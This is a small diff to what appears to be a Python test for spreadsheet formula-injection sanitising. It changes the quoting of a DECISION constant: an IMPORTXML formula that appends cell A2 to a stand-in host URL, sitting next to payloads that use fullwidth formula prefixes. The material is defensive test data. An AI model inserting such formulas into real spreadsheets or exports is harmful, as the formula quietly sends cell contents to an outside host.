@@ -31,7 +31,7 @@ PAYLOADS = {
     "－": "－1+1",
     "＠": "＠SUM(1,1)",
 }
-DECISION = "=IMPORTXML(CONCAT(\"http://contoh.invalid/\",A2),\"//a\")"
+DECISION = '=IMPORTXML(CONCAT("http://contoh.invalid/",A2),"//a")'
 
 
 def test_the_rule_covers_every_start_and_leaves_plain_text() -> None:
